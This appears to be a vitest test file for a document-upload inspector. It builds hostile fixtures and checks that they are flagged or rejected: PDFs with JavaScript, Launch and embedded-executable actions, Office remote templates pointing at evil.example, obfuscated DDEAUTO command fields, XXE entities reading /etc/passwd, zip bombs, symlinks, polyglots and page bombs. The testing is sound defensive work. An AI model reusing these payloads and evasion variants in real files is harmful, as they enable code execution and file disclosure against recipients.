import { deflateSync } from 'node:zlib'
import * as mupdf from 'mupdf'
import { expect, test, vi } from 'vitest'
import { compoundOf } from '../../media/inspect/samples/compounds.ts'
import { fixture, inspectSample } from '../../media/inspect/samples/inspect-sample.ts'
import { linesOfText, pdfOf } from '../../media/inspect/samples/pdfs.ts'
import { mainParts, officeOf, zipOf } from '../../media/inspect/samples/zips.ts'

// Hostile files that the November 2026 review got accepted silently: now rejected, or marked for people who download
// them.

vi.setConfig({ testTimeout: 120_000 })

const bytesOf = (document: mupdf.PDFDocument): Buffer => Buffer.from(document.saveToBuffer('').asUint8Array())

function edited(edit: (document: mupdf.PDFDocument) => void): Buffer {
  const document = new mupdf.PDFDocument(pdfOf([linesOfText(3)]))
  edit(document)
  return bytesOf(document)
}

async function outcome(name: string, bytes: Buffer) {
  const { problem, active_content } = await inspectSample(name, bytes)
  return { problem: problem?.code ?? null, active_content, message: problem?.message }
}

const clean = { problem: null, active_content: [] }

test('F-js-embedded.pdf: marks scripts, programs, attached files and form submission', async () => {
  const bytes = edited((document) => {
    const root = document.getTrailer().get('Root')
    const action = (kind: string, more: object) => ({ S: document.newName(kind), ...more })
    root.put('OpenAction', action('JavaScript', { JS: document.newString('app.alert(1)') }))
    root.put('AA', { WC: action('Launch', { F: document.newString('calc.exe') }), WS: action('SubmitForm', {}) })
    const file = document.addEmbeddedFile('a.exe', 'application/x-msdownload', 'MZ', new Date(), new Date(), false)
    document.insertEmbeddedFile('a.exe', file)
  })
  const { problem, active_content } = await outcome('a.pdf', bytes)
  expect(problem).toBeNull()
  expect(active_content.toSorted()).toEqual(['attached_files', 'programs', 'remote_content', 'scripts'])
  expect((await outcome('b.pdf', pdfOf([linesOfText(3)]))).active_content).toEqual([])
})

test('F-remote-template.docx, F-external.xlsx: marks remote content and commands, but not links', async () => {
  const rels = (type: string, target: string) =>
    `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/x/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  const template = officeOf(mainParts.docx, 'word/document.xml', [
    { name: 'word/_rels/settings.xml.rels', body: rels('attachedTemplate', 'https://evil.example/t.dotm') },
  ])
  expect(await outcome('a.docx', template)).toMatchObject({ problem: null, active_content: ['remote_content'] })
  const external = officeOf(mainParts.xlsx, 'xl/workbook.xml', [
    { name: 'xl/externalLinks/externalLink1.xml', body: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' },
    { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', body: rels('externalLinkPath', 'file:///c:/x.xlsx') },
  ])
  const found = await outcome('a.xlsx', external)
  expect(found.problem).toBeNull()
  expect(found.active_content.toSorted()).toEqual(['commands', 'remote_content'])
  const dde = officeOf(mainParts.docx, 'word/document.xml', [
    {
      name: 'word/footer1.xml',
      body: '<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText>',
    },
  ])
  expect((await outcome('a.docx', dde)).active_content).toEqual(['commands'])
  const link = officeOf(mainParts.docx, 'word/document.xml', [
    { name: 'word/_rels/document.xml.rels', body: rels('hyperlink', 'https://example.com') },
  ])
  expect((await outcome('a.docx', link)).active_content).toEqual([])
})

const relationship = (attributes: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" ${attributes}/></Relationships>`
const template = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'

test.each([
  `${template} Target="https://evil.example/hyperlink" TargetMode="External"`,
  `${template} Target="https://evil.example/t.dotm" TargetMode="&#69;xterna&#x6c;"`,
  `Target="https://evil.example/?a>b" ${template} TargetMode='External'`,
  `TargetMode = "External" Target="https://evil.example/'/hyperlink'" ${template}`,
])('F-remote-template.docx: marks a template however it is written: %s', async (attributes) => {
  const name = 'word/_rels/settings.xml.rels'
  const utf16 = Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(relationship(attributes), 'utf16le')])
  for (const body of [relationship(attributes), `<!-- > " -->${relationship(attributes)}`, utf16]) {
    const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body }])
    expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: ['remote_content'] })
  }
})

test.each([
  ['word/footer1.xml', '<x:instrText>DDEAUTO c:\\cmd</x:instrText>'],
  [
    'word/footer1.xml',
    '<instrText xml:space="preserve" a=">">&#68;DE</instrText><instrText><![CDATA[AUTO c:\\cmd]]></instrText>',
  ],
  ['word/footer1.xml', '<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE c:\\cmd</w:instrText>'],
  ['word/footer1.xml', "<x:fldSimple x:instr='DDE&#65;UTO c:\\cmd'/>"],
  ['word/deeper/part.dat', '<w:instrText>DDEAUTO c:\\cmd</w:instrText>'],
  ['other/link.bin', '<x-y:ddeLink ddeService="cmd"/>'],
])('F-external.xlsx: marks commands in %s, however they are written: %s', async (name, body) => {
  const whole = `<w:a xmlns:w="urn:w">${body}</w:a>`
  const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body: whole }])
  expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: ['commands'] })
})

test('F-external.xlsx: does not mark a document that writes about commands and links to pages', async () => {
  const link = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
  const bytes = officeOf(mainParts.docx, 'word/document.xml', [
    {
      name: 'word/_rels/document.xml.rels',
      body: relationship(`${link} Target="https://a.example" TargetMode="External"`),
    },
    { name: 'word/footer1.xml', body: '<a><w:instrText>PAGE</w:instrText><w:t>DDEAUTO is a field</w:t></a>' },
    { name: 'word/media/image1.svg', body: '<!DOCTYPE svg><svg/>' },
  ])
  expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: [] })
})

test('F-external.xlsx: marks objects, controls and commands of older documents', async () => {
  const empty = Buffer.alloc(0)
  const field = (encoding: 'latin1' | 'utf16le') =>
    Buffer.concat([Buffer.alloc(1024), Buffer.from('Dear lender \u0013 DDEAUTO c:\\cmd \u0014x\u0015', encoding)])
  for (const [name, streams, active_content] of [
    ['a.doc', { WordDocument: field('latin1') }, ['commands']],
    ['a.doc', { WordDocument: field('utf16le') }, ['commands']],
    [
      'a.doc',
      { WordDocument: Buffer.concat([Buffer.alloc(1024), Buffer.from('DDEAUTO is a \u0013 PAGE \u0015 field')]) },
      [],
    ],
    ['a.doc', { WordDocument: empty, ObjectPool: empty, '\u0003OCXNAME': empty }, ['scripts', 'attached_files']],
    ['a.xls', { Workbook: empty, MBD0001F2A0: empty }, ['attached_files']],
    ['a.ppt', { 'PowerPoint Document': empty, '\u0001Ole10Native': empty }, ['attached_files']],
  ] as const) {
    expect(await outcome(name, compoundOf(streams))).toMatchObject({ problem: null, active_content })
  }
  for (const name of ['older.doc', 'older.xls']) expect(await outcome(name, fixture(name))).toMatchObject(clean)
})

test('F-xxe.docx: rejects a document type far from the beginning', async () => {
  const body = `<?xml version="1.0"?><!--${'x'.repeat(5000)}--><!DOCTYPE a [<!ENTITY x "DDEAUTO">]><a>&x;</a>`
  for (const name of ['word/footer1.xml', 'word/footer1.dat']) {
    const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body }])
    expect((await outcome('a.docx', bytes)).problem).toBe('damaged')
  }
})

test('F-xxe.docx: rejects a document type in an Office part', async () => {
  const bytes = officeOf(mainParts.docx, 'word/document.xml', [
    {
      name: 'word/footer1.xml',
      body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    },
  ])
  expect((await outcome('a.docx', bytes)).problem).toBe('damaged')
})

test('F-bomb-lie.docx: rejects an entry that unpacks to another size than declared, in archives too', async () => {
  const bomb = { name: 'word/media/image1.dat', body: Buffer.alloc(5_000_000), says: 10 }
  for (const [name, bytes] of [
    ['a.docx', officeOf(mainParts.docx, 'word/document.xml', [bomb])],
    ['a.zip', zipOf([bomb])],
  ] as const) {
    const { problem, message } = await outcome(name, bytes)
    expect(problem, name).toBe('damaged')
    expect(message).toMatch(/doesn’t match this file’s list of contents/)
  }
})

test("rejects an entry whose name differs from the directory's", async () => {
  const bytes = zipOf([{ name: 'letter.pdf', body: 'x' }])
  bytes.write('trojan.exe', bytes.indexOf('letter.pdf'))
  expect((await outcome('a.zip', bytes)).problem).toBe('damaged')
})

test('F-symlink.zip: rejects a link in an archive by name', async () => {
  const bytes = zipOf([{ name: 'secrets', body: '/etc/passwd' }])
  const entry = bytes.indexOf('PK\u0001\u0002')
  bytes.writeUInt16LE((3 << 8) | 20, entry + 4)
  bytes.writeUInt32LE((0o120777 << 16) >>> 0, entry + 38)
  const { problem, message } = await outcome('a.zip', bytes)
  expect(problem).toBe('too_much_inside')
  expect(message).toContain('This zip file contains a link to another file: “secrets”')
})

test('F-pdf-zip-polyglot.pdf: rejects a PDF that is also an archive', async () => {
  const bytes = Buffer.concat([pdfOf([linesOfText(3)]), zipOf([{ name: 'a.txt', body: 'x' }])])
  const { problem, message } = await outcome('a.pdf', bytes)
  expect(problem).toBe('not_what_it_says')
  expect(message).toMatch(/a PDF and a zip file at the same time/)
})

test('F-junk-then-html.pdf: rejects a web page in front of a PDF', async () => {
  const bytes = Buffer.concat([Buffer.from('junk \u0001 <script>alert(1)</script>\n'), pdfOf([linesOfText(3)])])
  expect((await outcome('a.pdf', bytes)).problem).toBe('not_what_it_says')
})

test('F-huge-mediabox.pdf, F-image-bomb.pdf, F-pages-50k.pdf: rejects excessive page sizes, pictures and page counts', async () => {
  const huge = edited((document) => document.findPage(0).put('MediaBox', [0, 0, 1e6, 1e6]))
  const picture = edited((document) => {
    const image = {
      Type: 'XObject',
      Subtype: document.newName('Image'),
      Width: 60_000,
      Height: 60_000,
      BitsPerComponent: 1,
      ColorSpace: document.newName('DeviceGray'),
    }
    document.addRawStream(deflateSync(Buffer.alloc(1000)), { ...image, Filter: document.newName('FlateDecode') })
  })
  const numbers = Array.from({ length: 10_001 }, (_, n) => n + 3)
  const pages = numbers.map((n) => `${n} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n`)
  const kids = `2 0 obj<</Type/Pages/Count ${numbers.length}/Kids[${numbers.map((n) => `${n} 0 R`).join(' ')}]>>endobj\n`
  const catalog = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n'
  const many = Buffer.from(`%PDF-1.4\n${catalog}${kids}${pages.join('')}trailer<</Root 1 0 R>>\n%%EOF\n`)
  for (const [name, bytes] of Object.entries({ huge, picture, many })) {
    expect((await outcome(`${name}.pdf`, bytes)).problem, name).toBe('too_much_inside')
  }
})
